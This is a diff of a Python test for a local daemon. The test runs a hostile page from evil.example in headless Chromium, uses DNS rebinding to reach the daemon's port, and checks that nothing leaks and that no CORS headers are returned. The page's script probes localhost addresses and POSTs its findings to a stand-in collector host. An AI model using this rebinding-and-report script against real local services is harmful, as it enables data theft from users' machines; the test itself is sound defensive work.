@@ -1,6 +1,6 @@
-"""A page in a real browser that wants what the daemon gives. It comes from http://evil.example, whose name then leads to
-the daemon's own port (DNS rebinding), and it tries everything that a page can send: none of it may reach the upstream.
-Its twin is the same page with evil.example among the allowed hosts, which does get through."""
+"""A page in a real browser that wants what the daemon gives. It comes from http://evil.example, whose name then leads
+to the daemon's own port (DNS rebinding), and it tries everything that a page can send: none of it may reach the
+upstream. Its twin is the same page with evil.example among the allowed hosts, which does get through."""
 
 import json
 import threading
@@ -11,7 +11,8 @@ from harness import Handler, Server, StandIns, Valetd, ask, check, eventually, f
 # Every attempt names itself in the path, so that what arrives can be told apart.
 PAGE = """<!DOCTYPE html><title>evil</title><body><script>
 const collector = 'http://collector.example:%(collector)d', port = %(port)d;
-const report = (what, found) => fetch(`${collector}/report`, {method: 'POST', body: JSON.stringify([what, String(found)])});
+const report = (what, found) =>
+  fetch(`${collector}/report`, {method: 'POST', body: JSON.stringify([what, String(found)])});
 const pause = (ms) => new Promise((done) => setTimeout(done, ms));
 const settled = (start) => Promise.race([new Promise(start), pause(2000).then(() => 'nothing')]);
 const bases = ['', `http://127.0.0.1:${port}`, `http://localhost:${port}`, `http://api.localhost:${port}`,
@@ -118,10 +119,13 @@ def visit(valetd, api, number):
     evil.loaded = threading.Event()
     evil.page = (PAGE % {"collector": collector.port, "port": valetd.port}).encode()
     del api.seen[:]
-    rules = "MAP *.example 127.0.0.1,MAP * ~NOTFOUND,EXCLUDE 127.0.0.1,EXCLUDE [::1],EXCLUDE localhost,EXCLUDE *.localhost"
+    # nothing but this machine can be found
+    own = [f"EXCLUDE {name}" for name in ("127.0.0.1", "[::1]", "localhost", "*.localhost")]
+    rules = ",".join(["MAP *.example 127.0.0.1", "MAP * ~NOTFOUND", *own])
     chromium = spawn(
-        [need("chromium"), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
-         "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server",
+        [need("chromium"), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
+         "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
+         "--no-proxy-server",
          "--disable-features=HttpsUpgrades,HttpsFirstBalancedMode", f"--user-data-dir={folder(f'chromium{number}')}",
          f"--host-resolver-rules={rules}", f"http://evil.example:{valetd.port}/"],
         log=folder("chromium") / "log")
@@ -180,6 +184,8 @@ def main():
         foreign = [path for path in seen if not path.rstrip("?").endswith("-0") and path != "/navigation"]
         same(foreign, [], "what came across sites")
     with check("no answer of the daemon to a page carries a CORS field"):
+        if valetd.stopped:  # without a browser, nobody has started it again
+            valetd.start()
         origin = {"Origin": "http://evil.example"}
         preflight = origin | {"Access-Control-Request-Method": "PUT", "Access-Control-Request-Private-Network": "true"}
         for method, headers in (("GET", origin), ("OPTIONS", preflight)):
